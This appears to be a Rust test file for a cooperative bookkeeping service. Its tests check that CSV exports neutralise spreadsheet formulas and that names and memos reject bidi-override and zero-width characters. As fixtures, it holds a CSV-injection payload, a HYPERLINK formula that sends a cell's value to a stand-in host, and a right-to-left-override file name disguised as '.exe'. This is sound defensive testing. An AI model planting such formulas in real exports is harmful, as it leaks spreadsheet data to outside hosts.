//! Hardening, seen from outside: CSV exports that a spreadsheet cannot run, names and memos
//! without format characters.

use super::helpers::*;
use axum::http::StatusCode;
use kube_ledger::service::export::{export, ExportFormat};
use serde_json::json;

const FORMULA: &str = "=HYPERLINK(\"http://jahat.example/?\"&A1,\"klik\")";

/// The cells of a CSV text, row by row.
fn cells(text: &str) -> Vec<Vec<String>> {
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
    reader.records().map(|record| record.unwrap().iter().map(str::to_string).collect()).collect()
}

#[tokio::test]
async fn a_formula_in_a_memo_comes_out_of_the_csv_export_as_text() {
    let app = spawn_app().await;
    let lines = json!([{"account": "1101", "debit": "50000"}, {"account": "4101", "credit": "50000"}]);
    for memo in [FORMULA, "+1+1", "-2+3", "@SUM(A1:A9)"] {
        let (status, body) =
            app.post_entry(&app.treasurer, app.kube, json!({"date": "2026-07-01", "memo": memo, "lines": lines})).await;
        assert_eq!(status, StatusCode::CREATED, "{body}");
    }
    let mut out = Vec::new();
    export(app.ledger.store_for_tests(), app.kube, ExportFormat::Csv, &mut out).unwrap();
    let rows = cells(&String::from_utf8(out).unwrap());
    let memo_column = rows[0].iter().position(|name| name == "memo").unwrap();
    let memos: Vec<&str> = rows[1..].iter().map(|row| row[memo_column].as_str()).collect();
    for memo in [FORMULA, "+1+1", "-2+3", "@SUM(A1:A9)"] {
        assert!(memos.contains(&format!("'{memo}").as_str()), "{memo:?} not neutralised: {memos:?}");
        assert!(!memos.contains(&memo), "{memo:?} written raw");
    }
    for row in &rows[1..] {
        for cell in row {
            assert!(!cell.starts_with(['=', '+', '@', '\t', '\r']), "a formula cell: {cell:?}");
            assert!(!cell.starts_with('-') || cell[1..].parse::<f64>().is_ok(), "a formula cell: {cell:?}");
        }
    }
}

#[tokio::test]
async fn a_name_or_memo_with_a_bidi_override_or_zero_width_character_is_refused_at_its_field() {
    let app = spawn_app().await;
    for name in ["Ani\u{202E}gnp.exe", "A\u{200B}ni", "\u{2066}Ani"] {
        let body = json!({"number": "TAHU-050", "name": name, "kind": "klien", "joined_on": "2026-01-05"});
        let path = format!("/api/v1/entities/{}/members", app.kube);
        let (status, answer) = send(&app.router, "POST", &path, Some(&app.treasurer), Some(body)).await;
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{name:?}: {answer}");
        let problem = &answer["error"]["problems"][0];
        let message = problem["message"].as_str().unwrap_or_default();
        assert!(problem["field"] == "name" && message.contains("format tak terlihat"), "{name:?}: {answer}");
    }
    let lines = json!([{"account": "1101", "debit": "50000"}, {"account": "4101", "credit": "50000"}]);
    let memo = "Jual tahu \u{202E}000.005 pR";
    let before = app.entries_count(app.kube).await;
    let (status, answer) =
        app.post_entry(&app.treasurer, app.kube, json!({"date": "2026-07-01", "memo": memo, "lines": lines})).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{answer}");
    assert_eq!(answer["error"]["code"], "invalid_memo", "{answer}");
    assert!(answer["error"]["message"].as_str().unwrap_or_default().contains("format tak terlihat"), "{answer}");
    assert_eq!(app.entries_count(app.kube).await, before, "nothing stored");
}

#[tokio::test]
async fn a_formula_in_a_kube_name_comes_out_of_the_report_csv_as_text() {
    let app = spawn_app().await;
    let body = json!({"kind": "kube", "name": FORMULA, "parent_id": app.panti});
    let (status, created) = send(&app.router, "POST", "/api/v1/entities", Some(&app.admin), Some(body)).await;
    assert_eq!(status, StatusCode::CREATED, "{created}");
    let kube = created["id"].as_u64().unwrap();
    let settings = format!("/api/v1/entities/{}/reports/settings", app.panti);
    let (status, answer) =
        send(&app.router, "PUT", &settings, Some(&app.head), Some(json!({"start_month": "2025-01"}))).await;
    assert_eq!(status, StatusCode::OK, "{answer}");
    let plan = format!("/api/v1/entities/{}/plans/2025", app.panti);
    let body = crate::report::plan_body(kube, "1500000");
    let (status, answer) = send(&app.router, "PUT", &plan, Some(&app.head), Some(body)).await;
    assert_eq!(status, StatusCode::CREATED, "{answer}");
    let path = format!("/api/v1/entities/{}/reports/2025-TW1?format=csv&table=1", app.panti);
    let (status, csv) = app.get(&app.supervisor, &path).await;
    assert_eq!(status, StatusCode::OK, "{csv}");
    let rows = cells(csv.as_str().unwrap());
    let cells: Vec<&String> = rows.iter().flatten().collect();
    assert!(cells.contains(&&format!("'{FORMULA}")), "the KUBE's name, neutralised: {rows:?}");
    assert!(!cells.iter().any(|cell| cell.starts_with('=')), "{rows:?}");
}

#[tokio::test]
async fn the_member_page_refuses_a_bidi_override_at_the_name_field() {
    let app = spawn_app().await;
    let new = crate::pages_books::kube_path(&app, "/members/new");
    let cookie = format!("{}; lang=en", crate::pages::session(&app.treasurer));
    let typed = [
        ("number", "TAHU-060"),
        ("name", "Ani\u{202E}gnp.exe"),
        ("kind", "klien"),
        ("phone", ""),
        ("nik", ""),
        ("joined_on", "2026-02-01"),
    ];
    let answer = crate::pages_books::submit(&app, &cookie, &new, &new, &typed).await;
    assert_eq!(answer.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", answer.body);
    let error = "id=\"name-error\">at most 200 characters, no control characters or invisible format characters";
    assert!(answer.body.contains(error), "{error} missing: {}", answer.body);
    assert_eq!(app.ledger.members(app.kube).unwrap().len(), 1, "nobody registered");
}

/// Member logins live in their own namespace: a treasurer cannot give a member a login
/// shaped like a staff username (`admin.x`), and no staff username takes a member's shape.
#[tokio::test]
async fn member_logins_cannot_take_or_imitate_staff_usernames() {
    let app = spawn_app().await;
    let members = format!("/api/v1/entities/{}/members", app.kube);
    let mut logins = Vec::new();
    for number in ["ADMIN.X", "TAHU-009"] {
        let body = json!({"number": number, "name": "Anggota Baru", "kind": "klien", "joined_on": "2026-01-05"});
        let (status, member) = send(&app.router, "POST", &members, Some(&app.treasurer), Some(body)).await;
        assert_eq!(status, StatusCode::CREATED, "{member}");
        let path = format!("/api/v1/members/{}/login", member["id"]);
        let password = json!({"password": "rahasia-uji-2"});
        logins.push(send(&app.router, "POST", &path, Some(&app.treasurer), Some(password)).await);
    }
    let (status, body) = &logins[0];
    assert_eq!(
        (*status, body["error"]["code"].clone()),
        (StatusCode::UNPROCESSABLE_ENTITY, json!("member_login_shape"))
    );
    assert!(body["error"]["message"].as_str().unwrap().contains("HURUF-ANGKA"), "{body}");
    let sign_in = json!({"username": "admin.x", "password": "rahasia-uji-2"});
    let (status, _) = send(&app.router, "POST", "/api/v1/login", None, Some(sign_in)).await;
    assert_eq!(status, StatusCode::UNAUTHORIZED, "no login admin.x was made");
    assert_eq!((logins[1].0, logins[1].1["username"].clone()), (StatusCode::CREATED, json!("tahu-009")));
    login(&app.router, "tahu-009", "rahasia-uji-2").await;

    let staff =
        app.ledger.create_user("tahu-010", kube_ledger::domain::user::Role::Treasurer, Some(app.kube), PASSWORD);
    let refused = staff.await.expect_err("a staff username in the member shape");
    let text = kube_ledger::messages::refusal_text(kube_ledger::messages::Lang::En, &refused);
    assert!(text.contains("the shape of a member login"), "{text}");
}

/// A purchase refused for having no line of an amount speaks of a purchase, not a sale,
/// in both languages.
#[tokio::test]
async fn a_refused_purchase_speaks_of_a_purchase() {
    let app = spawn_app().await;
    let path = format!("/api/v1/entities/{}/purchases", app.kube);
    let body = json!({"date": "2026-07-02", "supplier": "UD Sumber", "lines": []});
    for (lang, said, not_said) in [("id", "pembelian", "penjualan"), ("en", "purchase", "sale")] {
        let headers = [("accept-language", lang)];
        let (status, answer) =
            send_raw(&app.router, "POST", &path, Some(&app.treasurer), &headers, Some(body.to_string())).await;
        assert_eq!(
            (status, answer["error"]["code"].clone()),
            (StatusCode::UNPROCESSABLE_ENTITY, json!("empty_purchase")),
            "{answer}"
        );
        let message = answer["error"]["message"].as_str().unwrap();
        assert!(message.contains(said) && !message.contains(not_said), "{lang}: {message}");
    }
}

/// The members file of two rows, as Latin-1 bytes and as UTF-16 with its byte-order mark.
fn not_utf8_files() -> [(&'static str, Vec<u8>); 2] {
    let text = "number,name,kind,joined_on\nTAHU-070,René,klien,2026-01-05\n";
    let latin1: Vec<u8> = text.chars().map(|c| u8::try_from(u32::from(c)).unwrap()).collect();
    let utf16: Vec<u8> = [0xFF, 0xFE].into_iter().chain(text.encode_utf16().flat_map(u16::to_le_bytes)).collect();
    [("Latin-1", latin1), ("UTF-16", utf16)]
}

/// A CSV that is not UTF-8 is refused with a clear error at both doors, the API and the
/// page upload, and nobody is registered from it.
#[tokio::test]
async fn a_csv_that_is_not_utf8_is_refused_clearly_at_both_doors() {
    use tower::ServiceExt;
    let app = spawn_app().await;
    let path = format!("/api/v1/entities/{}/members/import", app.kube);
    for (encoding, bytes) in not_utf8_files() {
        let request = axum::http::Request::builder()
            .method("POST")
            .uri(&path)
            .header("content-type", "text/csv")
            .header("authorization", format!("Bearer {}", app.treasurer))
            .body(axum::body::Body::from(bytes.clone()))
            .unwrap();
        let response = app.router.clone().oneshot(request).await.unwrap();
        let status = response.status();
        let body = http_body_util::BodyExt::collect(response.into_body()).await.unwrap().to_bytes();
        let answer: serde_json::Value = serde_json::from_slice(&body).unwrap();
        assert_eq!((status, answer["error"]["code"].clone()), (StatusCode::UNPROCESSABLE_ENTITY, json!("not_utf8")));
        assert!(answer["error"]["message"].as_str().unwrap().contains("CSV UTF-8"), "{encoding}: {answer}");

        let (csrf, key) = crate::pages_books::form(
            &app,
            &crate::pages::session(&app.treasurer),
            &format!("/entities/{}/import", app.kube),
        )
        .await;
        let page = crate::pages_books::upload(&app, "members", "anggota.csv", &bytes, Some(&csrf), &key).await;
        assert_eq!(page.status, StatusCode::UNPROCESSABLE_ENTITY, "{encoding}: {}", page.body);
        assert!(page.body.contains("bukan teks UTF-8") && page.body.contains("CSV UTF-8"), "{encoding}: {}", page.body);
        assert_eq!(app.ledger.members(app.kube).unwrap().len(), 1, "{encoding}: nobody registered");
    }
}

/// The sign-in page refusing a username that cannot exist does not send it back: 500 KB
/// in, a small page out; a username that could exist stays in the field.
#[tokio::test]
async fn the_sign_in_page_does_not_echo_a_username_that_cannot_exist() {
    let app = spawn_app().await;
    let huge = "a".repeat(500 * 1024);
    let answer = crate::pages::sign_in(&app, &huge, "salah").await.expect_err("refused");
    assert_eq!(answer.status, StatusCode::UNAUTHORIZED);
    assert!(answer.body.len() < 50_000, "{} bytes", answer.body.len());
    let typo = crate::pages::sign_in(&app, "bendahara", "salah").await.expect_err("refused");
    assert!(typo.body.contains("value=\"bendahara\""), "{}", typo.body);
}
